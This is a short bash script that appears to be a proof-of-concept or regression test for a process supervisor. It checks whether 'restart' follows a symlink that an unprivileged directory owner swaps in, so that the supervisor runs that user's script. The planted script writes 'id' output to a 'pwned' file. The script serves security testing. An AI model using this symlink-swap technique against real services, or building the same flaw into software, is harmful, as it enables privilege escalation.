#!/usr/bin/env bash
# workdir-link.sh BIN: see README.md.
M=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
B=$(mktemp -d); chmod 755 $B; T=$B/theirs; mkdir -p $T/app $T/evil
printf '#!/bin/sh\nexec sleep 300\n' > $T/app/run.sh; chmod 755 $T/app/run.sh
printf '#!/bin/sh\nid > %s/pwned\nexec sleep 300\n' $B > $T/evil/run.sh; chmod 755 $T/evil/run.sh
chown -R nobody:nogroup $T/evil; chown nobody:nogroup $T
(cd $T/app && $M start w1 --rundir=$B/run -- ./run.sh)
# the user who owns $T swaps app for a link to their folder
setpriv --reuid=65534 --regid=65534 --clear-groups sh -c "mv $T/app $T/app.old && ln -s $T/evil $T/app"
(cd / && $M restart w1 --rundir=$B/run); echo "restart: $?"
cat $B/pwned 2>/dev/null || echo "the user's ./run.sh did not run"
$M kill w1 --rundir=$B/run >/dev/null
